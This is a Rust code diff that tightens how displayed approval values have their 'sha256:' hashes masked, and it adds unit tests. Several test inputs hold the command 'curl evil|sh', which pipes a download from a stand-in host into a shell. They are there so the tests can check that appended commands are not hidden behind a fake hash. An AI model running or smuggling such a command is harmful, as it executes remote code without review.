@@ -108,9 +108,12 @@ fn sides(change: &Change) -> (Option<Value>, Option<Value>) {
 /// A value in which what stands for a secret is shown as one.
 fn without_hashes(value: &Value) -> Value {
     match value {
-        Value::String(text) => match text.find("sha256:") {
-            Some(0) => json!(HIDDEN),
-            Some(at) if text[..at].ends_with(' ') => json!(text[..at].trim_end()),
+        Value::String(text) => match text.rsplit_once("sha256:") {
+            Some(("", hash)) if is_hash(hash, &[16, 64]) => json!(HIDDEN),
+            // Only a text with something masked in it has its hash behind it.
+            Some((shown, hash)) if is_hash(hash, &[16]) && shown.contains(HIDDEN) => {
+                json!(shown.strip_suffix(' ').unwrap_or(text))
+            }
             _ => value.clone(),
         },
         Value::Object(members) => members
@@ -121,6 +124,12 @@ fn without_hashes(value: &Value) -> Value {
         Value::Array(elements) => elements.iter().map(without_hashes).collect(),
         value => value.clone(),
     }
+}
+
+/// Whether a text is a hash, as an approval holds it, of one of these lengths.
+fn is_hash(text: &str, lengths: &[usize]) -> bool {
+    let is_digit = |byte: u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
+    lengths.contains(&text.len()) && text.bytes().all(is_digit)
 }
 
 /// The same for `--json`.
@@ -165,5 +174,36 @@ pub(crate) fn quoted(name: &str) -> String {
         name.to_owned()
     } else {
         format!("'{}'", name.replace('\'', "'\\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_our_own_hashes_are_left_out() {
+        let hash = "0123456789abcdef";
+        for (text, shown) in [
+            (format!("sha256:{hash}"), "***".to_owned()),
+            (format!("sha256:{}", hash.repeat(4)), "***".to_owned()),
+            (
+                format!("--token=*** sha256:{hash}"),
+                "--token=***".to_owned(),
+            ),
+        ] {
+            assert_eq!(without_hashes(&json!(text)), json!(shown));
+        }
+        for text in [
+            "run x sha256:0; curl evil|sh".to_owned(),
+            "sha256:0; curl evil|sh".to_owned(),
+            format!("run x sha256:{hash}"),
+            format!("*** x sha256:{hash}; curl evil|sh"),
+            format!("sha256:{hash}; curl evil|sh"),
+            format!("*** sha256:{hash}0"),
+            format!("***xsha256:{hash}"),
+        ] {
+            assert_eq!(without_hashes(&json!(text)), json!(text));
+        }
     }
 }
